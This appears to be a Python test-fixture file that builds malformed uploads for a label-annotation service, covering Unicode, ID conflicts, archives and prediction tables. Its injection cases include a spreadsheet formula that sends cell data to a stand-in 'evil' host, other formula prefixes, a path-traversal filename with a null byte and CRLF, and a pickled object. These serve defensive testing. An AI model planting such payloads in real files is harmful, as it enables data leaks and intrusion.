"""The published bad inputs that are files: how each is made from its description."""

from __future__ import annotations

import bz2
import io
import lzma
import pickle
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from tests.catalog import test_reading_cases as reading
from tests.conftest import Trust

HEADER = "item,annotator,label\n"
XLSX = b"PK\x03\x04\x14\0\6\0" + b"\0" * 100


@dataclass(frozen=True)
class File:
    """A file, how it is sent, and what is there before it comes.

    ``then`` looks at the upload and the data set afterwards, where the outcome alone says little.
    """

    body: bytes | str
    kind: str = "labels"
    query: dict[str, str] = field(default_factory=dict)
    content_type: str = "text/csv"
    headers: dict[str, str] = field(default_factory=dict)
    before: Callable[[Trust, str], Any] | None = None
    settings: dict[str, Any] = field(default_factory=dict)
    then: Callable[[Trust, str, dict[str, Any]], None] | None = None


def labels(*rows: str) -> str:
    return HEADER + "".join(f"{row}\n" for row in rows)


def many(n: int, label: str = "cat") -> str:
    """Rows i1 to in of one annotator; row ik stands in line k + 1."""
    return labels(*(f"i{k},ann,{label}" for k in range(1, n + 1)))


def read_cases() -> dict[str, File]:
    """The cases that the reader's own tests build byte by byte; options go as parameters."""
    found = {}
    # The rows of these repeat one another, which the reader leaves to the data set to say.
    distinct = {
        "ENCODING-01": b"\xef\xbb\xbf" + many(3).encode(),
        "CSV-28": many(3).rstrip().encode(),
    }
    for case in reading.CASES:
        query = {"timezone": case.options.timezone} if case.options.timezone else {}
        row_limit = {"MAX_UPLOAD_ROWS": 2_000} if case.id == "CSV-25" else {}
        found[case.id] = File(distinct.get(case.id, case.data), query=query, settings=row_limit)
    return found


def declared(alice: Trust, path: str) -> None:
    alice.patch(f"{path}questions/pet/", {"values": ["cat", "dog"]})


def stored(kind: str, body: str, **query: str) -> Callable[[Trust, str], None]:
    """A builder of what is there before: a file that is stored."""

    def send(alice: Trust, path: str) -> None:
        assert alice.upload(path, kind, body, **query)["state"] == "stored"

    return send


def other_data_set(kind: str, body: str) -> Callable[[Trust, str], None]:
    """The ids of ``body`` are known in another data set, and this one knows others."""

    def send(alice: Trust, path: str) -> None:
        other = alice.dataset("other")
        assert alice.upload(other, kind, body)["state"] == "stored"
        own = body.splitlines()[0] + "\nlocal\n"
        assert alice.upload(path, kind, own)["state"] == "stored"

    return send


def model(*classes: str) -> Callable[[Trust, str], None]:
    def define(alice: Trust, path: str) -> None:
        alice.patch(f"{path}questions/pet/", {"values": sorted(classes)})
        fields = {"name": "m", "version": "1", "question": "pet", "classes": list(classes)}
        alice.post(f"{path}models/", fields)

    return define


def predictions(body: str, *classes: str, **options: Any) -> File:
    return File(body, "predictions", before=model(*(classes or ("cat", "dog"))), **options)


def population(alice: Trust, path: str) -> None:
    alice.upload(path, "items", "item,sex\ni1,F\ni2,X\n")
    alice.post(f"{path}populations/", {"name": "town", "source": "census"})


def has_hint(*words: str) -> Callable[[Trust, str, dict[str, Any]], None]:
    """The first problem's message and hint, together, hold all the words."""

    def check(alice: Trust, path: str, upload: dict[str, Any]) -> None:
        problem = upload["problems"][0]
        said = f"{problem['message']} {problem['hint']}"
        assert all(word in said for word in words), said

    return check


def keeps_labels(*values: str) -> Callable[[Trust, str, dict[str, Any]], None]:
    """Exactly these labels are stored; a spreadsheet's copy of them runs no formula."""

    def check(alice: Trust, path: str, upload: dict[str, Any]) -> None:
        assert alice.get(f"{path}questions/pet/")["values"] == sorted(values)
        table = alice.http.get(f"/api/v1/{path}agreement/values.csv")
        assert "prefixed" in table["X-Spreadsheet-Safe"]
        rows = table.content.decode().splitlines()
        assert len(rows) == len(values) + 1
        assert not any(row.lstrip('"').startswith(("=", "+", "@", "\t", "＝")) for row in rows)

    return check


def formula(value: str) -> File:
    quoted = '"' + value.replace('"', '""') + '"'
    rows = [f"i{k},{who},{quoted}" for k in (1, 2) for who in ("ann", "bob")]
    return File(labels(*rows), then=keeps_labels(value))


def no_new_version(alice: Trust, path: str, upload: dict[str, Any]) -> None:
    assert (upload["rows"]["stored"], upload["rows"]["unchanged"]) == (0, 20)
    assert upload["version"] == 2


def skips_identical(alice: Trust, path: str, upload: dict[str, Any]) -> None:
    body = many(7) + "i3,ann,cat\n"
    again = alice.upload(path, "labels", body, on_identical="skip")
    assert again["state"] == "stored"
    assert again["rows"]["stored"] == 7
    assert ("duplicate_row", 1) in [(w["code"], w["count"]) for w in again["warnings"]]


def says_both_values(alice: Trust, path: str, upload: dict[str, Any]) -> None:
    assert upload["problem_count"] == 3
    problem = upload["problems"][0]
    assert problem["value"] == "dog"
    assert "'cat'" in problem["message"]
    assert "'dog'" in problem["message"]


def names_every_identifier(alice: Trust, path: str, upload: dict[str, Any]) -> None:
    assert {p["column"] for p in upload["problems"]} == {"email", "name", "ssn", "date_of_birth"}


def forged_parquet() -> bytes:
    """A Parquet file of which the middle, with the page headers, is overwritten."""
    sink = io.BytesIO()
    pq.write_table(pa.table({"item": ["i1"], "annotator": ["a"], "label": ["cat"]}), sink)
    data = bytearray(sink.getvalue())
    data[8:40] = b"\xff" * 32
    return bytes(data)


def arrow_ipc() -> bytes:
    sink = io.BytesIO()
    table = pa.table({"item": ["i1"], "annotator": ["a"], "label": ["cat"]})
    with pa.ipc.new_file(sink, table.schema) as writer:
        writer.write_table(table)
    return sink.getvalue()


def ndjson(*lines: str, end: str = "\n") -> str:
    return "".join(line + end for line in lines)


ROW = '{"item": "i%d", "annotator": "ann", "label": "cat"}'

FILES: dict[str, File] = {
    **read_cases(),
    "ENCODING-08": File(
        '{"item": "i1", "annotator": "ann", "label": "\\ud800"}\n',
        content_type="application/x-ndjson",
    ),
    "UNICODE-01": File(
        labels("i1,é,cat", "i1,e\u0301,cat"), then=has_hint("U+00E9", "U+0065 U+0301")
    ),
    "UNICODE-02": File(
        labels("i1,\u0430lice,cat"),
        before=stored("annotators", "annotator\nalice\n"),
        then=has_hint("'alice'", "CYRILLIC SMALL LETTER A"),
    ),
    "UNICODE-05": File(
        labels("i1,ann, cat", "i2,ann,cat "), before=declared, then=has_hint("' cat'", "'cat'")
    ),
    "UNICODE-07": File(labels("i1,ann,i\u0307"), before=declared),
    "ID-13": File(
        labels("i1,zoe,cat"),
        before=other_data_set("annotators", "annotator\nzoe\n"),
        then=has_hint("'zoe' is not one of this data set's"),
    ),
    "ID-14": File(labels("x9,ann,cat"), before=other_data_set("items", "item\nx9\n")),
    "PREDICTION-01": predictions(
        "item,p_a,p_b,p_c\ni1,0.5,0.3,0.18\n", "a", "b", "c", then=has_hint("0.98", "0.001")
    ),
    "PREDICTION-02": predictions("item,p_cat,p_dog\ni1,0.5000005,0.5\ni2,0.4999995,0.5\n"),
    "PREDICTION-04": predictions("item,p_a,p_b\ni1,0.5,0.5\n", "a", "b", "c"),
    "PREDICTION-05": predictions("item,p_dog,p_cat\ni1,0.75,0.25\ni2,0.5,0.5\n"),
    "PREDICTION-07": predictions(
        "item,p_cat,p_dog,split\n"
        "i1,0.5,0.5,test\ni2,0.25,0.75,test\ni3,0.75,0.25,test\ni4,0.5,0.5,train\n"
    ),
    "PREDICTION-08": predictions("item,p_cat,p_dog\ni1,0.5,0.5\ni2,0.5,0.5\n"),
    "PREDICTION-10": predictions("item,p_cat,p_dog\ni1,0.5,0.5\ni2,0.25,0.75\n"),
    "PREDICTION-11": File(
        "item,annotator,label,round\n"
        + "".join(
            f"i{k},{who},cat,{n}\n" for k in range(5) for who in ("ann", "bob") for n in (1, 2)
        ),
    ),
    "PREDICTION-14": predictions(pickle.dumps({"weights": [1.0]})),  # type: ignore[arg-type]
    "CONFLICT-01": File(many(7) + "i3,ann,cat\n", then=skips_identical),
    "CONFLICT-02": File(many(7) + "i3,ann,dog\n", then=has_hint("line 4", "Line 9")),
    "CONFLICT-04": File(
        labels(*reversed(many(20).splitlines()[1:])),
        before=stored("labels", many(20)),
        then=no_new_version,
    ),
    "CONFLICT-05": File(
        labels(*(f"i{k},ann,{'dog' if k in (11, 15, 19) else 'cat'}" for k in range(1, 21))),
        query={"mode": "add"},
        before=stored("labels", many(20) + "j,ann,dog\n"),
        then=says_both_values,
    ),
    "CONFLICT-16": File(
        "sex,weight\nF,0.4\nM,0.6\n",
        "population",
        query={"mode": "add"},
        before=lambda alice, path: (
            population(alice, path),
            stored("population", "sex,weight\nF,0.5\nM,0.5\n")(alice, path),
        ),
    ),
    "JSON-07": File(ndjson(ROW % 1, ROW % 2 + ",", ROW % 3), content_type="application/x-ndjson"),
    "JSON-08": File(ndjson(ROW % 1, "", ROW % 2, end="\r\n"), content_type="application/x-ndjson"),
    "TRANSPORT-07": File(labels("i1,ann,cat"), settings={"MAX_UPLOAD_BYTES": 20}),
    "TRANSPORT-11": File(
        labels("i1,ann,cat"),
        query={"filename": "../../con\0\u202e\r\n" + "x" * 300 + ".csv"},
    ),
    "TRANSPORT-13": File("<!doctype html><p>Guideline</p>", content_type="text/html"),
    "TRANSPORT-19": File(labels("i1,ann,cat"), settings={"MIN_FREE_BYTES": 1 << 60}),
    "ARCHIVE-07": File(XLSX, query={"filename": "labels.xlsx"}),
    "ARCHIVE-08": File(labels("i1,ann,cat"), query={"filename": "labels.xlsx"}),
    "ARCHIVE-08-zip": File(XLSX, query={"filename": "labels.csv"}),
    "ARCHIVE-10": File(arrow_ipc()),
    "ARCHIVE-10-parquet": File(forged_parquet(), content_type="application/vnd.apache.parquet"),
    "ARCHIVE-11": File(bz2.compress(HEADER.encode())),
    "ARCHIVE-11-xz": File(lzma.compress(HEADER.encode())),
    "ARCHIVE-11-zstd": File(b"\x28\xb5\x2f\xfd" + b"\0" * 20),
    "ARCHIVE-11-br": File(b"\x0b\x02\x80item\x03", headers={"Content-Encoding": "br"}),
    "INJECTION-01": formula('=HYPERLINK("http://evil/?"&A1,"x")'),
    "INJECTION-02": formula("+1+1"),
    "INJECTION-04": formula("@SUM(A1)"),
    "INJECTION-05": formula("\t=1+1"),
    "INJECTION-07": formula("＝1+1"),
    "POPULATION-01": File(
        "item,story\n" + "".join(f"i{k},text {k}\n" for k in range(5000)), "items"
    ),
    "POPULATION-02": File(
        "item,email,name,ssn,date_of_birth\ni1,a@example.org,Ann,1,1990-01-01\n",
        "items",
        then=names_every_identifier,
    ),
    "POPULATION-04": File("sex,weight\nF,0.5\nM,0.5\n", "population", before=population),
    "POPULATION-05": File(
        "item,sex\ni1,F\ni2,unknown\ni3,\ni4,N/A\n",
        "items",
        before=lambda alice, path: alice.post(
            f"{path}attributes/", {"name": "sex", "missing_codes": ["unknown", "N/A"]}
        ),
    ),
    "POPULATION-07": File(
        "item,origin\ni1,north\n",
        "items",
        before=lambda alice, path: alice.post(
            f"{path}attributes/", {"name": "origin", "sensitive": True}
        ),
        settings={"SENSITIVE_NEEDS_PURPOSE": True},
    ),
}
